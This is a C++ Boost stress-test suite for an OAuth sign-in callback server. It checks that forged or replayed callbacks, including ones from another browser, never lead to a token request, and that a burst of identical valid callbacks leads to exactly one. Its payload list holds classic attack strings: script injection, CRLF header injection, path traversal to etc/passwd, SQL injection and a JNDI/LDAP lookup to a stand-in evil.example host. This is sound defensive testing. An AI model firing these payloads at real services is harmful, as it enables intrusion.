// SPDX-License-Identifier: BSL-1.0
// Forged callbacks of 500 kinds cause no token request, and 1,000 identical good ones at once cause one.
#include "../unit/callback_server/entra_world.hpp"
#include "../unit/callback_server/raw_exchange.hpp"
#include "../unit/callback_server/sockets.hpp"
#include "size.hpp"

#include <boost/test/unit_test.hpp>

#include <algorithm>
#include <chrono>
#include <cstddef>
#include <string>
#include <sys/wait.h>
#include <unistd.h>
#include <vector>

BOOST_AUTO_TEST_SUITE(stress_callbacks)

using namespace callback_server_tests;

namespace {

std::string parameter(const std::string& address, const std::string& name) {
    const std::size_t at = address.find(name + "=");
    return at == std::string::npos ? "" : address.substr(at + name.size() + 1, address.find('&', at) - at - name.size() - 1);
}
std::string cookies_of(const demo_browser& browser, const world& at) {
    std::string all;
    if (const auto mine = browser.cookies.find(at.origin()); mine != browser.cookies.end())
        for (const auto& one : mine->second) all += (all.empty() ? "" : "; ") + one.first + "=" + one.second;
    return all;
}
std::string request_for(const world& at, const std::string& query, const std::string& cookies) {
    return "GET " + std::string(callback_server::callback_path) + query + " HTTP/1.1\r\nHost: 127.0.0.1:" + std::to_string(at.port()) +
           "\r\nCookie: " + cookies + "\r\n\r\n";
}

/// Values that scanners and thieves send.
const std::vector<std::string> payloads{"<script>alert(1)</script>", "\"><img%20src=x%20onerror=alert(1)>", "javascript:alert(1)",
    "https://evil.example/", "//evil.example", "/\\evil.example", "%0d%0aSet-Cookie:%20a=b", "%0d%0aLocation:%20https://evil.example/",
    "%00", "%zz", "%", "%25", "..%2f..%2fetc%2fpasswd", "'%20or%20'1'='1", "${jndi:ldap://evil.example/x}", "{{7*7}}", "%E2%82%AC",
    "%ff%fe", "a%20b", "a+b", "+", "=", "==", "a==", std::string(300, 'a'), std::string(6000, 'b'), "0", "null", "undefined", "true", "[]",
    "{}", "%c0%ae", "%u0041", "%0b", "%7f", "%80", "access_denied", "invalid_grant", "a&b", "a;b", "a%26state=b"};

/// Ways to build a query from a good state, a good code and a payload. None of them may lead to a token.
std::vector<std::string> bad_queries(const std::string& state, const std::string& code) {
    std::vector<std::string> all{"", "?", "?code=" + code, "?state=" + state, "?state=" + state + "&code=", "?state=&code=" + code,
        "?state=" + state + "&state=" + state + "&code=" + code, "?state=" + state + "&code=" + code + "&code=" + code,
        "?state=" + state + "&error=access_denied", "?state=" + state + "&error=access_denied&code=" + code,
        "?state=" + state + "&code=" + code + "&iss=https://evil.example", "?STATE=" + state + "&code=" + code,
        "?state=" + state + "x&code=" + code, "?state=" + state.substr(1) + "&code=" + code, "?state=%20" + state + "&code=" + code,
        "?state=" + state + "%20&code=" + code, "?state=" + state + "%00&code=" + code, "?state[]=" + state + "&code=" + code};
    for (std::size_t i = 0; i < state.size(); i += 3) {
        std::string changed = state;
        changed[i] = changed[i] == 'A' ? 'B' : 'A';
        all.push_back("?state=" + changed + "&code=" + code);
    }
    for (const std::string& one : payloads) {
        all.push_back("?state=" + one + "&code=" + code);
        all.push_back("?state=" + state + one + "&code=" + code);
        all.push_back("?state=" + one + state + "&code=" + code);
        all.push_back("?error=" + one);
        all.push_back("?state=" + state + "&error=" + one);
        all.push_back("?state=" + one + "&error=access_denied&error_description=" + one);
        all.push_back("?code=" + one);
        all.push_back("?" + one);
        all.push_back("?" + one + "=" + one);
    }
    return all;
}

void check_refusal(const std::string& answer, const std::string& query) {
    BOOST_TEST_CONTEXT(query.substr(0, 60) << " … " << query.substr(query.size() - std::min<std::size_t>(query.size(), 60))) {
        const int status = status_in(answer);
        BOOST_TEST(status >= 400);
        BOOST_TEST(status < 500);
        BOOST_TEST(answer.find("\r\nLocation:") == std::string::npos);
        BOOST_TEST(answer.find("Content-Security-Policy: default-src 'none'; ") != std::string::npos);
        BOOST_TEST(answer.find("X-Content-Type-Options: nosniff\r\n") != std::string::npos);
        BOOST_TEST(answer.find("Referrer-Policy: no-referrer\r\n") != std::string::npos);
        BOOST_TEST(answer.find("Cache-Control: no-store\r\n") != std::string::npos);
        for (const char* echo :
            {"evil.example", "<script", "onerror", "javascript:", "jndi", "passwd", "{{7*7}}", "49}}", "Set-Cookie: a=b"})
            BOOST_TEST(answer.find(echo) == std::string::npos, echo);
    }
}

/// `World`: with a legacy app or with one of Entra ID.
template <class World>
void refuse_callbacks() {
    const auto wanted = static_cast<std::size_t>(stress::times(60, 500));
    World at;
    std::size_t sent = 0;
    for (; sent < wanted; ++sent) {
        demo_browser owner; // each has its own sign-in: a query with the good state uses it up, whatever else is wrong
        BOOST_REQUIRE(at.go_to_authorize(owner));
        const std::string address = at.accept_only(owner), good = address.substr(address.find('?')), mine = cookies_of(owner, at);
        const auto bad = bad_queries(parameter(address, "state"), parameter(address, "code"));
        if (sent % 5 == 0) { // a good query sent by someone else
            demo_browser thief;
            BOOST_REQUIRE(at.go_to_authorize(thief));
            const std::string session = mine.substr(0, mine.find("azdo-sign-in-"));
            const std::vector<std::string> jars{"", cookies_of(thief, at), mine.substr(0, mine.size() - 1), session,
                session + "azdo-sign-in-" + std::string(22, 'A') + "=x"};
            check_refusal(
                raw_exchange(at.port(), request_for(at, good, jars[sent / 5 % jars.size()])), "a good query from another browser");
            continue;
        }
        const std::string& query = bad[sent * bad.size() / wanted];
        check_refusal(raw_exchange(at.port(), request_for(at, query, mine)), query);
    }
    BOOST_TEST(at.token_requests() == 0u);
    BOOST_TEST_MESSAGE(sent << " refused callbacks: " << at.token_requests() << " token requests");
}

template <class World>
void send_identical_callbacks() {
    const auto wanted = static_cast<std::size_t>(stress::times(150, 1000));
    World at;
    demo_browser browser;
    BOOST_REQUIRE(at.go_to_authorize(browser));
    const std::string address = at.accept_only(browser);
    const std::string request = request_for(at, address.substr(address.find('?')), cookies_of(browser, at));
    // The clients are several processes, so that each has enough file descriptors.
    constexpr std::size_t processes = 5;
    int results[2];
    BOOST_REQUIRE(::pipe(results) == 0);
    std::vector<pid_t> children;
    for (std::size_t child = 0; child < processes; ++child) {
        const pid_t made = ::fork();
        BOOST_REQUIRE(made >= 0);
        if (made == 0) {
            std::vector<raw_connection> clients;
            for (std::size_t i = 0; i < wanted / processes; ++i) clients.emplace_back(at.port());
            for (const raw_connection& one : clients) static_cast<void>(one.send(request));
            unsigned counts[4]{}; // accepted, refused as already used, anything else, closed for lack of room
            for (const raw_connection& one : clients) {
                const int status = status_in(one.read_all());
                ++counts[status == 303 ? 0 : status == 409 ? 1 : status != 0 ? 2 : 3];
            }
            ::_exit(::write(results[1], counts, sizeof counts) == static_cast<ssize_t>(sizeof counts) ? 0 : 1);
        }
        children.push_back(made);
    }
    unsigned all[4]{};
    for (const pid_t child : children) {
        unsigned counts[4]{};
        BOOST_REQUIRE(::read(results[0], counts, sizeof counts) == static_cast<ssize_t>(sizeof counts));
        for (int i = 0; i < 4; ++i) all[i] += counts[i];
        BOOST_TEST(::waitpid(child, nullptr, 0) == child);
    }
    ::close(results[0]);
    ::close(results[1]);
    BOOST_TEST(all[0] == 1u);
    BOOST_TEST(all[1] + all[3] == wanted - 1);
    BOOST_TEST(all[2] == 0u);
    const std::size_t room = callback_server::gate_limits{}.connections;
    if (wanted < room) BOOST_TEST(all[3] == 0u); // beyond it, the oldest that had sent nothing made room
    BOOST_TEST(all[3] <= wanted - std::min(wanted, room / 2));
    BOOST_TEST(at.token_requests() == 1u);
    BOOST_TEST_MESSAGE(wanted << " identical callbacks at once: " << at.token_requests() << " exchange, " << all[1] << " refused, "
                              << all[3] << " closed for want of room");
}

} // namespace

BOOST_AUTO_TEST_CASE(callbacks_that_are_refused_cause_no_token_request) { refuse_callbacks<world>(); }
BOOST_AUTO_TEST_CASE(callbacks_that_are_refused_cause_no_token_request_at_entra) { refuse_callbacks<entra_world>(); }
BOOST_AUTO_TEST_CASE(identical_callbacks_at_once_cause_one_exchange) { send_identical_callbacks<world>(); }
BOOST_AUTO_TEST_CASE(identical_callbacks_at_once_cause_one_exchange_at_entra) { send_identical_callbacks<entra_world>(); }

BOOST_AUTO_TEST_SUITE_END()
